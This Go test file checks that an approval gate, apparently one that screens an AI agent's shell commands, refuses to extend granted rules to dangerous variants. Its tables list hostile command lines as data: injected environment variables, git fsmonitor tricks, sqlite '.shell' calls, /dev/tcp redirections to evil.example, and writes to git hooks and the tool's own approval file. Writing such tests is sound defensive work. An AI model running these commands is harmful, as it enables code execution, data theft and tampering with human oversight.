package approval

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// classCase is one row of the class tables below: the rules granted (as
// specRules reads them), a command line, and whether the rules cover it.
type classCase struct {
	rules string
	line  string
	want  bool
}

// checkCovers runs a class table against ruleSet.coversCommand.
func checkCovers(t *testing.T, cases []classCase) {
	t.Helper()
	for _, c := range cases {
		rules, err := specRules(c.rules)
		if err != nil {
			t.Fatalf("%q: %v", c.rules, err)
		}
		if got := mustCompileAll(t, rules).coversCommand("bash", c.line); got != c.want {
			t.Errorf("rules %v, line %q: covered = %v, want %v", rules, c.line, got, c.want)
		}
	}
}

// TestAssignmentsNeedTheirRule checks that a rule covers no assignment it
// was not granted with, wherever the line makes it (issue 24, major 4),
// except the harmless ones.
func TestAssignmentsNeedTheirRule(t *testing.T) {
	checkCovers(t, []classCase{
		{"@make lint", "GO='touch x; true' make lint", false},
		{"@make lint", "CFLAGS='-wrapper /tmp/x' make lint", false},
		{"@make lint", "GNUMAKEFLAGS=--eval=x make lint", false},
		{"=tar -czf out.tgz src", "TAR_OPTIONS=--to-command=id tar -czf out.tgz src", false},
		{"@rg foo", "RIPGREP_CONFIG_PATH=/tmp/rc rg foo", false},
		{"@python3 -m pytest", "PYTEST_ADDOPTS='-p evil' python3 -m pytest", false},
		{"@python3 -m pytest", "PYTEST_PLUGINS=evil python3 -m pytest", false},
		{"@npm test", "NODE_V8_COVERAGE=/home/u/.ssh npm test", false},
		{"@make lint", "export GO=x; make lint", false},
		{"@make lint", "GO=x; make lint", false},
		{"@make lint", "GO=x; export GO; make lint", false},
		{"@make lint", "env GO=x make lint", false},
		{"@make lint", "env -i GO=x make lint", false},
		{"@make lint", "declare -x GO=x; make lint", false},
		{"@make lint", "GO=x bash -c 'make lint'", false},
		{"@make lint", "bash -c 'export GO=x; make lint'", false},
		{"@make lint", "for GO in x; do make lint; done", false},
		{"@make lint", "read GO <<< x; make lint", false},
		{"@make lint", "echo ${GO:=x}; make lint", false},
		{"@make lint", "source env.sh; make lint", false},
		{"@git fetch", "https_proxy=http://evil git fetch", false},
		{"@make lint", "env 'BASH_FUNC_make%%=() { id; }' make lint", false},
		{"@sudo make lint", "sudo GO=x make lint", false},
		{"@sudo make lint", "sudo env GO=x make lint", false},
		{"@make lint", "GO=x exec make lint", false},
		{"@make lint", "time GO=x make lint", false},
		{"@make lint", "GO+=x make lint", false},
		{"@make lint", "sh -c 'GO=x :; make lint'", false},
		{"@make lint", "GO=x set -e; make lint", false},
		{"@make lint", "LANG=C.UTF-8 make lint", true},
		{"@git log", "GIT_PAGER=cat git log -n 3", true},
		{"@git log", "env PAGER=cat GIT_TERMINAL_PROMPT=0 git log", true},
		{"@git log", "GIT_PAGER=less git log", false},
		{"@git log", "GIT_PAGER='cat; id' git log", false},
		{"@git log", "GIT_PAGER=$P git log", false},
		{"@make lint", "LC_ALL=C TZ=UTC NO_COLOR=1 make lint", true},
		{"@make lint", "LANG='$(id)' make lint", false},
		{"@make lint", "LANG=../../tmp/x make lint", false},
		{"@make lint", "LC_ALL=/tmp/locale make lint", false},
		{"@make lint", "TERM=/tmp/terminfo make lint", false},
		{"@make lint", "TZ=Europe/Paris make lint", true},
		{"@make lint", "LANG=$L make lint", false},
		{"@go test", "CGO_ENABLED=0 go test ./...", true},
		{"@make lint", "for f in a b; do make lint; done", true},
		{"@make lint", "x=1; make lint", true},
		{"@FOO=1 make test", "FOO=1 make test", true},
		{"@FOO=1 make test", "env FOO=1 make test -j2", true},
		{"@FOO=1 make test", "export FOO=1; make test", true},
		{"@FOO=1 make test", "FOO=2 make test", false},
		{"@FOO=1 make test", "FOO=1 BAR=1 make test", false},
		{"@FOO=1 make test", "make test", false},
		{"@GO='a b' make test", "GO='a b' make test", true},
		{"@GO='a b' make test", "GO='a b; id' make test", false},
	})
}

// TestShellOptionsAreModelled checks that a shell or set option changing
// how the line is read makes it ask (issue 24, major 5).
func TestShellOptionsAreModelled(t *testing.T) {
	payload := "git status GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=/tmp/x"
	checkCovers(t, []classCase{
		{"@git status", "bash -k -c '" + payload + "'", false},
		{"@git status", "sh -kc '" + payload + "'", false},
		{"@git status", "dash -ek -c '" + payload + "'", false},
		{"@git status", "zsh -o keyword -c '" + payload + "'", false},
		{"@git status", "bash -eo keyword -c '" + payload + "'", false},
		{"@git status", "set -k; " + payload, false},
		{"@git status", "set -o keyword; " + payload, false},
		{"@git status", "command set -k; " + payload, false},
		{"@git status", "bash -c 'set -k; " + payload + "'", false},
		{"@git status", "bash -a -c 'git status'", false},
		{"@git status", "bash -i -c 'git status'", false},
		{"@git status", "bash --rcfile x -c 'git status'", false},
		{"@git status", "bash -O extglob -c 'git status'", false},
		{"@git status", "set -a; git status", false},
		{"shopt ;; @git status", "shopt -s -o keyword; " + payload, false},
		{"shopt ;; @git status", "shopt -s lastpipe; git status", false},
		{"=shopt -p ;; @git status", "shopt -p; git status", true},
		{"@git status", "zsh -c 'setopt autocd; vendor/lib.git; git status'", false},
		{"@git status", "bash -euxo pipefail -c 'git status'", true},
		{"@git status", "bash --noprofile --norc -lc 'git status'", true},
		{"@git status", "set -euo pipefail; git status", true},
		{"@git status", "set -x; git status", true},
		{"@git status", "set -- a b; git status", true},
	})
}

// TestOperandsThatRunOrWrite checks that operands which run code or write
// files never ride on a prefix rule (issue 24, major 6).
func TestOperandsThatRunOrWrite(t *testing.T) {
	checkCovers(t, []classCase{
		{"@sqlite3 app.db 'select 1'", "sqlite3 app.db '.shell id'", false},
		{"@sqlite3 app.db 'select 1'", "sqlite3 app.db 'delete from t'", false},
		{"@sqlite3 app.db 'select 1'", "sqlite3 app.db 'select 1'", true},
		{"sqlite3", "sqlite3 app.db '.shell id'", false},
		{"@uniq file", "uniq - .git/config", false},
		{"@uniq file", "uniq in out", false},
		{"@uniq file", "uniq -c in", true},
		{"@xxd f", "xxd a .git/config", false},
		{"@npm install lodash", "npm install ./pkg", false},
		{"@npm install lodash", "npm install evil.tgz", false},
		{"@npm install lodash", "npm install github:e/x", false},
		{"@npm install lodash", "npm install e/x", false},
		{"@npm install lodash", "npm install @types/node@20 react", true},
		{"@pip install requests", "pip install ./x", false},
		{"@pip install requests", "pip install 'flask>=2'", true},
		{"@apt-get install -y jq", "apt-get install ./evil.deb", false},
		{"@python3 -m pytest", "python3 -m pytest evil_test.py", false},
		{"@python3 -m pytest", "python3 -m pytest -q -v --lf", true},
		{"@pytest", "pytest evil_test.py", false},
		{"@jest", "jest evil.test.js", false},
		{"@yarn test", "yarn test evil.test.js", false},
		{"@go test", "go test ./testdata/evil", false},
		{"@go test", "go test evil_test.go", false},
		{"@go test", "go test ./vendor/x/...", false},
		{"@go test", "go test github.com/e/x", false},
		{"@go test", "go test ./core/...", true},
		{"@date", "date 010100002030", false},
		{"@date", "date +%s", true},
		{"@m4 x.m4", "m4 evil.m4", false},
		{"@mvn test", "mvn test exec:java", false},
		{"@gradle test", "gradle test evilTask", false},
		{"@deno eval 'console.log(1)'", "deno eval 'Deno.exit()'", false},
		{"@nix run nixpkgs#hello", "nix run nixpkgs#evil", false},
		{"@git clone https://x/a.git", "git clone https://x/a.git .cairn", false},
		{"@rg foo", "rg -n -g '*.go' foo src", true},
		{"@rg foo", "rg --pre ./x foo", false},
		{"@rg foo", "rg --hostname-bin=./x foo", false},
	})
}

// TestRedirectionsToTheNetwork checks that bash's /dev/tcp and /dev/udp
// never ride on a rule, in either direction (issue 24, minor).
func TestRedirectionsToTheNetwork(t *testing.T) {
	checkCovers(t, []classCase{
		{"@cat f", "cat < /dev/tcp/evil.example/80", false},
		{"@cat f", "cat 0</dev/udp/h/53", false},
		{"@cat f", "cat < /dev/./tcp/h/80", false},
		{"@cat f", "cat < /dev/tcp/$H/80", false},
		{"@cat f", `cat < "$F"`, false},
		{"@git status", "git status 2</dev/tcp/h/1", false},
		{"@cat f", "{ cat; } < /dev/tcp/h/80", false},
		{"@cat f", "cat < input.txt", true},
		{"@cat f", "cat < src/$F", true},
		{"@cat f", "cat <<< \"$x\"", true},
	})
}

// TestRulesHoldInTheirDirectory checks that a command run in another
// directory than its rule's asks (issue 24, major 7), and that a git
// command in a repository other than the project's asks whatever the
// rules.
func TestRulesHoldInTheirDirectory(t *testing.T) {
	dir := corpusProject(t)
	cases := []classCase{
		{"@make lint ;; cd", "cd web && make lint", false},
		{"@make lint ;; cd", "(cd web; make lint)", false},
		{"@make lint", "env -C web make lint", false},
		{"@make lint ;; cd", "cd web; make lint", false},
		{"@make lint ;; cd", "cd web || make lint", true},
		{"@make lint ;; cd", "(cd web); make lint", true},
		{"@make lint ;; cd", "cd web & make lint", true},
		{"@make lint ;; cd", "for d in a b; do make lint; cd web; done", false},
		{"@make lint ;; cd", "if true; then cd web; fi; make lint", false},
		{"@make lint ;; cd", "true | cd web; make lint", false},
		{"@make lint ;; chdir", "zsh -c 'chdir web && make lint'", false},
		{"@cd web && make lint", "cd web && make lint", true},
		{"@cd web && make lint", "env -C web make lint -j4", true},
		{"@cd web && make lint", "cd api && make lint", false},
		{"@cd web && make lint", "make lint", false},
		{"@ls ;; cd", "cd web && ls -la", true},
		{"@git status ;; cd", "cd vendor/lib.git && git status", false},
		{"@git status ;; cd", "cd sub/nested && git status", false},
		{"@git status", "env -C vendor/lib.git git status", false},
		{"@cd vendor/lib.git && git status", "cd vendor/lib.git && git status", false},
		{"@git -C vendor/lib.git status", "git -C vendor/lib.git status", false},
		{"@git --git-dir=vendor/lib.git status", "git --git-dir=vendor/lib.git status", false},
		{"@cd web && git status", "cd web && git status", true},
		{"@cd DIR/vendor/lib.git && git status", "cd DIR/vendor/lib.git && git status", false},
		{"@git -C DIR/sub/nested status", "git -C DIR/sub/nested status", false},
		{"@cd DIR/web && git status", "cd DIR/web && git status", true},
		{"@git status ;; cd", "cd . && git status", true},
	}
	for _, c := range cases {
		// DIR is the project, for absolute paths into it.
		c.rules, c.line = strings.ReplaceAll(c.rules, "DIR", dir), strings.ReplaceAll(c.line, "DIR", dir)
		rules, err := specRules(c.rules)
		if err != nil {
			t.Fatalf("%q: %v", c.rules, err)
		}
		if ran, _ := runsUnasked(t, dir, rules, c.line); ran != c.want {
			t.Errorf("rules %v, line %q: ran unasked = %v, want %v", rules, c.line, ran, c.want)
		}
	}
}

// TestQuestionNamesWhatACommandWrites checks that a command writing a
// protected file, or running git in another repository, is asked about as
// an edit of a protected file is: with the reason, and without offering to
// remember it, even when a rule covers the command.
func TestQuestionNamesWhatACommandWrites(t *testing.T) {
	dir := corpusProject(t)
	tests := []struct {
		rules, line, want string
	}{
		{"@uniq f", "uniq - .git/config <<EOF\n[core]\nEOF", "writes .git/config, git's configuration"},
		{"=tee .git/hooks/pre-commit", "tee .git/hooks/pre-commit", "writes .git/hooks/pre-commit, a git hook"},
		{"@echo", "echo '{}' > .cairn/approvals.json", "writes .cairn/approvals.json, a file that controls cairn"},
		{"=cp config .git/", "cp config .git/", "writes .git/config"},
		{"@cd", "cd .git && cp /tmp/x config", "writes .git/config"},
		{"@sort f", "sort -o AGENTS.md notes", "writes AGENTS.md, instructions cairn gives the model"},
		{"@cd vendor/lib.git && git status", "cd vendor/lib.git && git status", "runs git in vendor/lib.git, a repository with its own configuration"},
		{"@git status", "git -C sub/nested status", "runs git in sub/nested, a repository with its own configuration"},
		{"@git restore x", "git restore .cairn/approvals.json", "writes .cairn/approvals.json"},
		{"@git mv a b", "git mv notes.md AGENTS.md", "writes AGENTS.md"},
		{"=perl -pi -e s/a/b/ x", "perl -pi -e s/a/b/ .git/config", "writes .git/config"},
		{"=xxd -r a b", "xxd -r hex .git/config", "writes .git/config"},
		{"=patch x", "patch .git/config fix.diff", "writes .git/config"},
		{"=dd if=a of=b", "dd if=x of=.git/hooks/pre-push", "writes .git/hooks/pre-push"},
		{"=tee -a x", "tee -a ~/.cairn/settings.json", "writes"},
	}
	for _, tt := range tests {
		rules, err := specRules(tt.rules)
		if err != nil {
			t.Fatalf("%q: %v", tt.rules, err)
		}
		ran, q := runsUnasked(t, dir, rules, tt.line)
		if ran {
			t.Errorf("%q ran unasked", tt.line)
			continue
		}
		if !strings.Contains(q.Message, tt.want) {
			t.Errorf("%q: question says %q, want it to say %q", tt.line, q.Message, tt.want)
		}
		if opts := optionValues(q); slices.Contains(opts, OptionAllowSession) || slices.Contains(opts, OptionAllowAlways) {
			t.Errorf("%q: question offers to remember it: %v", tt.line, opts)
		}
	}
}

// TestSessionRuleKeepsAssignmentAndDirectory checks the rule "Allow for
// this session" makes for a line with an assignment or after cd: it names
// them, and covers only them.
func TestSessionRuleKeepsAssignmentAndDirectory(t *testing.T) {
	ctx := context.Background()
	g := openGate(t, Config{Dir: corpusProject(t)})
	ui := newFakeUI(pick(OptionAllowSession), pick(OptionAllowSession), pick(OptionDeny), pick(OptionDeny), pick(OptionDeny), pick(OptionDeny))
	d := g.Check(ctx, bashTool, bashCall("FOO=1 make test"), ui)
	if got := fmt.Sprint(d.Rules); got != "[bash: FOO=1 make test (plus safe options)]" {
		t.Errorf("rules for FOO=1 make test: %s", got)
	}
	d = g.Check(ctx, bashTool, bashCall("cd web && npm test"), ui)
	if got := fmt.Sprint(d.Rules); got != "[bash: cd (plus any options and operands) bash: npm test (plus safe options) in web]" {
		t.Errorf("rules for cd web && npm test: %s", got)
	}
	for _, line := range []string{"FOO=1 make test -j2", "env -C web npm test", "cd web && npm test"} {
		if d := g.Check(ctx, bashTool, bashCall(line), ui); !d.Allow || d.By != ByRule {
			t.Errorf("%q was not covered: %+v", line, d)
		}
	}
	for _, line := range []string{"FOO=2 make test", "make test", "npm test", "cd api && npm test"} {
		before := ui.asked()
		if g.Check(ctx, bashTool, bashCall(line), ui); ui.asked() != before+1 {
			t.Errorf("%q was not asked about", line)
		}
	}
}

// TestRulesFileVersionForDirectories checks that "Always allow" on a line
// run in another directory writes a rules file older cairns refuse, rather
// than one whose rule they would take to hold everywhere, and that this
// cairn reads it back.
func TestRulesFileVersionForDirectories(t *testing.T) {
	dir := corpusProject(t)
	file := filepath.Join(t.TempDir(), "approvals.json")
	g := openGate(t, Config{Dir: dir, RulesFile: file})
	ui := newFakeUI(pick(OptionAllowAlways))
	if d := g.Check(context.Background(), bashTool, bashCall("cd web && npm test"), ui); !d.Allow {
		t.Fatalf("decision %+v", d)
	}
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(data), `"version": 2`) || !strings.Contains(string(data), `"dir": "web"`) {
		t.Errorf("rules file:\n%s", data)
	}
	again := openGate(t, Config{Dir: dir, RulesFile: file})
	if d := again.Check(context.Background(), bashTool, bashCall("env -C web npm test"), nil); !d.Allow || d.Scope != ScopeAlways {
		t.Errorf("the saved rule does not hold in web: %+v", d)
	}
	if d := again.Check(context.Background(), bashTool, bashCall("npm test"), nil); d.Allow {
		t.Errorf("the saved rule holds outside web: %+v", d)
	}
}
